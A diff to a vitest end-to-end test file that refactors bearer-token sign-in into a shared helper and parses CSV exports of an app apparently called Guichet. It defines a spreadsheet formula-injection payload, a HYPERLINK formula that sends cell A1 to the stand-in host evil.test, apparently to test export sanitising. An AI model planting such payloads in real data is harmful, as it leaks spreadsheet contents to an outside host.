@@ -1,22 +1,14 @@
 import { readFile } from "node:fs/promises";
 import { parse } from "csv-parse/sync";
 import { expect, inject, test } from "vitest";
-import { DEMO_PASSWORD } from "@/db/seed/demo-accounts";
 import { browserForFile, signedInPage } from "../support/browser";
+import { bearerFor } from "../support/fetch-sign-in";
 
 const baseUrl = inject("baseUrl");
 const browser = browserForFile();
+const bearer = (email: string, ip: string) => bearerFor(baseUrl, email, ip);
 
 const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")';
-
-async function bearer(email: string, ip: string): Promise<string> {
-  const response = await fetch(`${baseUrl}/api/v1/tokens`, {
-    method: "POST", headers: { "content-type": "application/json", "x-forwarded-for": ip },
-    body: JSON.stringify({ email, password: DEMO_PASSWORD }),
-  });
-  expect(response.status).toBe(201);
-  return `Bearer ${((await response.json()) as { token: string }).token}`;
-}
 
 /** The cells of a CSV Guichet wrote (BOM, semicolons). */
 const cells = (text: string) => parse(text, { delimiter: ";", bom: true, relax_column_count: true }) as string[][];
